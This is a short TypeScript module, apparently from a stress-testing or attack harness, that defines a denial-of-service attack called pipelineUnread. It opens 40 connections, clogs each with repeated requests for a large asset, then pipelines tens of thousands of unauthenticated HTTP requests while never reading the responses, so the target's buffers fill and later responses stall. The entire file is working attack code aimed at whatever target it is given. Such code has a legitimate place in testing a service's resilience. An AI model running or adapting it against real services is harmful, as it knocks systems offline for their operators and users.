import type { Attack } from './attack.ts';
import { withSockets, write } from './open-sockets.ts';
import { request } from './requests.ts';

const connections = 40;

/** The responses to these fill the buffers of the system, so that every later response waits in the process. */
const plug = request('GET /docs/swagger-ui-bundle.js').repeat(4);

/** 65,000 bytes: the most requests that one read of the service passes to its HTTP parser. */
const small = 'GET / HTTP/1.1\r\nHost:\r\n\r\n'.repeat(2_600);

/** Pipelines 104,000 requests without a key, and reads none of the responses. */
export const pipelineUnread: Attack = (target) =>
  withSockets(target, async ({ openDeaf, untilOver }) => {
    await Promise.all(Array.from({ length: connections }, async () => write(await openDeaf(), plug + small)));
    await untilOver();
  });
